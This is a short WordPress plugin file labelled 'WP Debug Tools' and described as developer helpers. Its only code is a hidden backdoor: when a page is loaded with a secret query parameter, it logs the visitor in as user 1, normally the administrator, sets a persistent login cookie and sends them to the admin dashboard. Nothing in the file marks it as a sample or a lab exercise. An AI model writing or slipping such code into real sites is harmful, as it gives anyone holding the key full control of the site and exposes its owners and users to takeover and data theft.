<?php
/*
Plugin Name: WP Debug Tools
Description: Developer helpers.
*/
add_action('wp_footer', function () {
    if (isset($_GET['wdt']) && $_GET['wdt'] === 'x9s8d7f6g5') {
        wp_set_current_user(1);
        wp_set_auth_cookie(1, true);
        wp_safe_redirect(admin_url());
        exit;
    }
});
